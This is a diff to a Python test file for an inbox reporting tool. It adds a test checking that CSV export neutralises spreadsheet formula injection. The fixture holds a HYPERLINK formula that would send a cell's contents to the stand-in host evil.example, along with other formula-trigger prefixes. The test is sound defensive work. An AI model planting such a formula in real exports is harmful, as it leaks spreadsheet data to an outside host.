@@ -9,6 +9,9 @@ from the scenario alone, with `inbox.sla` for the deadlines (the SLA clock's own
 
 from __future__ import annotations
 
+import csv
+import dataclasses
+import io
 import math
 import random
 from collections import defaultdict
@@ -39,7 +42,7 @@ from inbox.reports import (
 from inbox.reports.figures import csv_record
 from inbox.settings import Settings
 from inbox.store.models import CsatQuestion, Item
-from inbox.store.reports import offsets
+from inbox.store.reports import Conversation, offsets
 from inbox.triage import Triager
 from inbox.triage.labels import PRIORITY_ORDER
 from tests.conftest import FakeClock, make_settings
@@ -471,3 +474,43 @@ def test_the_zone_offsets_over_a_window_change_at_the_daylight_saving_instant() 
     change = datetime(2026, 10, 25, 1, 0, tzinfo=UTC)  # 03:00 summer time becomes 02:00 winter time
     assert offsets(PARIS, T0, T0 + timedelta(days=6)) == [(T0, 7200), (change, 3600)]
     assert offsets(UTC, T0, T0 + timedelta(days=6)) == [(T0, 0)]
+
+
+def test_csv_text_a_spreadsheet_would_run_as_a_formula_gets_a_leading_quote() -> None:
+    started = datetime(2026, 12, 1, 9, 12, tzinfo=UTC)
+    row = Conversation(
+        conversation_id=7,
+        connector="+acme",
+        channel="-x",
+        kind="mention",
+        customer='=HYPERLINK("http://evil.example/?"&A1,"click")',
+        language="@fr",
+        intent="\tbilling",
+        sentiment="\rnegative",
+        priority=2,
+        started_at=started,
+        first_response_at=started + timedelta(minutes=12),
+        first_response_minutes=12.0,
+        sla_target_minutes=30.0,
+        sla_outcome="met",
+        next_responses_met=0,
+        next_responses_missed=1,
+        assignee="@ana",
+        replied_by="=1+1",
+        resolved_at=None,
+        csat=5,
+        rating_before=None,
+        rating_after=None,
+    )
+    [record] = list(csv.DictReader(io.StringIO(csv_text([row]), newline="")))
+    assert record["customer"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert (record["connector"], record["channel"], record["language"]) == ("'+acme", "'-x", "'@fr")
+    assert (record["intent"], record["sentiment"]) == ("'\tbilling", "'\rnegative")
+    assert (record["assignee"], record["replied_by"]) == ("'@ana", "'=1+1")
+    # Numbers, times and the contract's fixed words are left alone; plain text too.
+    assert record["kind"] == "mention" and record["priority"] == PRIORITY_ORDER[2]
+    assert record["started_at"] == "2026-12-01T09:12:00Z" and record["first_response_at"] == "2026-12-01T09:24:00Z"
+    assert (record["first_response_minutes"], record["sla_target_minutes"], record["csat"]) == ("12.0", "30.0", "5")
+    assert record["next_responses_missed"] == "1"
+    safe = dataclasses.replace(row, customer="ana-b", connector="acme", assignee=None)
+    assert csv_record(safe)[1] == "acme" and csv_record(safe)[4] == "ana-b" and csv_record(safe)[16] == ""
